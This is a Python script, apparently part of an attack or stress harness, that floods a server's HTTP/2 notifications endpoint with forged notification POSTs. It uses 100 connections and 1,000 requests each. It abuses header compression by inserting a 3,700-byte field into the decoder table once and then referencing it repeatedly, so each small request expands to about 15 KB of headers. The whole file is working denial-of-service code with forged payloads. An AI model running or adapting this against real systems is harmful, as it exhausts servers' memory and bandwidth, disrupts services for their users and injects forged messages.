"""Complete posts of forged notifications with 15 KB of header fields, a thousand after the other on each of 100 connections."""

import select
import time

from forged_notifications import forged
from wire import APP, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, connect, discard, frame, literal, settings

CONNECTIONS, POSTS = 100, 1_000
# A field of 3,700 bytes into the table: its index is then 62.
FIELD = b"\x40\x01a\x7f\xf5\x1b" + b"x" * 3_700
HEAD = b"\x83\x86\x01\x01a" + literal(":path", f"/notifications/{APP}")


def posts(bodies):
    """Each time the next thousand posts of a connection. The first one has the field itself."""
    for first in range(1, 1 << 30, 2 * POSTS):
        frames = [PREFACE + settings()] if first == 1 else []
        for stream, body in zip(range(first, first + 2 * POSTS, 2), bodies):
            frames.append(frame(HEADERS, END_HEADERS, stream, HEAD + (FIELD if stream == 1 else b"\xbe") + b"\xbe" * 3))
            frames.append(frame(DATA, END_STREAM, stream, body))
        yield b"".join(frames)


def flood(target, until):
    batches, made = posts(forged(target.notifications)), []
    # What is left to send on each connection, and the number of its next batch.
    closed, peers = 0, {}
    while time.monotonic() < until:
        while len(peers) < CONNECTIONS and time.monotonic() < until:
            peers[connect(target.http)] = (b"", 0)
        readable, writable, _ = select.select(peers, peers, [], 0.1)
        for peer in {*readable, *writable}:
            rest, number = peers[peer]
            if not rest:
                if number == len(made):
                    made.append(next(batches))
                rest, number = memoryview(made[number]), number + 1
            try:
                discard(peer)
                peers[peer] = (rest[peer.send(rest) :] if peer in writable else rest, number)
            except OSError:
                closed += 1
                del peers[peer]
    return closed
